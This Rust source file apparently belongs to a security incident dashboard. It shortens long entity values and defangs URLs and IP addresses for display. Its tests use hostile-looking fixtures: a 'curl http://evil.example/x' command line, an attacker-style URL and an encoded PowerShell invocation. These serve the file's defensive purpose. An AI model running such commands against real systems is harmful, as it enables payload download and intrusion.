//! A name or fact of an entity as pages show it: long ones shortened in the middle, URLs and domains so that nothing
//! makes a link of them, and both whole for copying.

use std::net::IpAddr;

use crate::web::shared::defang::{defanged, defanged_site};
use crate::web::shared::impacted_assets::short_name;

/// Most characters of a value in a list.
const MOST: usize = 56;

/// Facts that are shown in the fixed-width face, whatever they look like.
const CODE_LABELS: [&str; 8] =
    ["Command line", "Parent command line", "Image", "Path", "Folder", "Parent", "Value", "Resource ID"];

/// A value, ready for templates.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShownValue {
    pub label: String,
    /// As its source wrote it.
    pub whole: String,
    /// As the page shows it.
    pub shown: String,
    /// What is shown before it is shortened, where that differs.
    pub full: Option<String>,
    /// Present where it differs from the value itself.
    pub defanged: Option<String>,
    /// Whether it is shown in the fixed-width face.
    pub code: bool,
    /// Too long for a line: a page can open it.
    pub long: bool,
}

impl ShownValue {
    /// With its defanged text, which is what the page shows if opening it is dangerous.
    fn new(label: &str, whole: &str, code: bool, safe: String, dangerous: bool) -> Self {
        let full = if dangerous { safe.as_str() } else { whole };
        let shown = shortened(full, MOST);
        Self {
            label: label.to_owned(),
            full: (shown != full).then(|| full.to_owned()),
            long: shown != full,
            shown,
            defanged: (safe != whole).then_some(safe),
            code,
            whole: whole.to_owned(),
        }
    }

    /// The name of an entity of a kind ("ip"), which its label says in words ("IP address").
    pub fn name(kind: &str, label: &str, name: &str) -> Self {
        let is_hash = kind == "file" && is_hash(name);
        let code = is_hash || matches!(kind, "ip" | "url" | "registryKey");
        let safe = match kind {
            "url" => defanged_site(name),
            "ip" | "file" | "process" => defanged(name),
            _ => name.to_owned(),
        };
        let mut shown = Self::new(label, name, code, safe, kind == "url");
        if kind == "device" {
            shown.shorten_host();
        }
        shown
    }

    /// What is shown, before it is shortened.
    pub fn full_text(&self) -> &str {
        self.full.as_deref().unwrap_or(&self.shown)
    }

    /// Whether what is shown is not the value itself, even before it is shortened.
    pub fn is_changed(&self) -> bool {
        self.full_text() != self.whole
    }

    /// A host by its first label, which is where the hosts of a company differ.
    fn shorten_host(&mut self) {
        let short = short_name("device", &self.whole);
        if short != self.whole {
            self.shown = short;
            self.full = Some(self.whole.clone());
        }
    }

    /// Shows the whole name, where a shorter one would mean several.
    pub fn lengthen(&mut self) {
        let Some(full) = self.full.clone() else { return };
        if self.long {
            self.shown = shortened(&full, MOST);
        } else {
            self.full = None;
            self.shown = full;
        }
    }

    /// A fact of an entity.
    pub fn fact(label: &str, value: &str) -> Self {
        let is_url = value.contains("://") && !value.contains(' ');
        let looks_so = is_hash(value)
            || value.parse::<IpAddr>().is_ok()
            || value.contains("://")
            || value.starts_with("HKEY_")
            || value.starts_with('/')
            || value.get(1..3) == Some(":\\");
        Self::new(label, value, looks_so || CODE_LABELS.contains(&label), defanged(value), is_url)
    }
}

fn is_hash(text: &str) -> bool {
    matches!(text.len(), 32 | 40 | 64) && text.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// At most so many characters of a text, with its beginning and its end: what tells two paths or commands apart
/// is often at the end.
fn shortened(text: &str, most: usize) -> String {
    let count = text.chars().count();
    if count <= most {
        return text.to_owned();
    }
    let end = most / 2;
    let beginning: String = text.chars().take(most - end - 1).collect();
    let ending: String = text.chars().skip(count - end).collect();
    format!("{beginning}…{ending}")
}

#[cfg(test)]
mod tests {
    use super::{MOST, ShownValue, shortened};

    #[test]
    fn a_long_text_keeps_its_beginning_and_its_end() {
        assert_eq!(shortened("abcdefghij", 10), "abcdefghij");
        assert_eq!(shortened("abcdefghijk", 10), "abcd…ghijk");
        assert_eq!(shortened("äöüäöüäöüäöü", 5), "äö…öü");
        let value = ShownValue::fact("Command line", &format!("powershell.exe -enc {} -End", "A".repeat(300)));
        assert_eq!(value.shown.chars().count(), MOST);
        assert!(value.shown.starts_with("powershell.exe -enc A") && value.shown.ends_with("A -End"));
        assert_eq!(value.full.as_deref(), Some(value.whole.as_str()));
    }

    #[test]
    fn hosts_are_shown_by_their_first_label() {
        let host = ShownValue::name("device", "Device", "web-01.contoso.example");
        assert_eq!((host.shown.as_str(), host.whole.as_str()), ("web-01", "web-01.contoso.example"));
        assert_eq!(host.full.as_deref(), Some("web-01.contoso.example"));
        let mut other = host.clone();
        other.lengthen();
        assert_eq!((other.shown.as_str(), other.full), ("web-01.contoso.example", None));
        let long = format!("web-01.{}.example", "a".repeat(60));
        let mut long = ShownValue::name("device", "Device", &long);
        long.lengthen();
        assert!(long.shown.starts_with("web-01.aaa") && long.shown.ends_with("aa.example"), "{}", long.shown);
        assert_eq!(long.full_text(), long.whole);
        assert_eq!(ShownValue::name("device", "Device", "10.0.0.7").shown, "10.0.0.7");
        assert_eq!(ShownValue::name("user", "User", "ana@contoso.example").shown, "ana@contoso.example");
    }

    #[test]
    fn what_attackers_serve_is_defanged_on_screen_and_whole_for_copying() {
        let url = ShownValue::name("url", "URL", "https://evil.example/a.b");
        assert_eq!(
            (url.shown.as_str(), url.whole.as_str()),
            ("hxxps://evil[.]example/a.b", "https://evil.example/a.b")
        );
        assert_eq!(url.defanged.as_deref(), Some("hxxps://evil[.]example/a.b"));
        let address = ShownValue::name("ip", "IP address", "203.0.113.7");
        assert_eq!((address.shown.as_str(), address.defanged.as_deref()), ("203.0.113.7", Some("203[.]0[.]113[.]7")));
        assert_eq!(ShownValue::name("ip", "IP address", "10.0.0.7").defanged, None);
        let command = ShownValue::fact("Command line", "curl http://evil.example/x");
        assert_eq!(command.shown, "curl http://evil.example/x");
        assert_eq!(command.defanged.as_deref(), Some("curl hxxp://evil[.]example/x"));
    }

    #[test]
    fn what_is_compared_letter_by_letter_has_the_fixed_width_face() {
        let code = |label, value: &str| ShownValue::fact(label, value).code;
        assert!(code("SHA256", &"a1".repeat(32)) && code("Anything", "C:\\Temp\\a.exe") && code("Command line", "x"));
        assert!(!code("OS", "Windows11") && !code("User", "ana") && !code("Risk score", "medium"));
    }
}
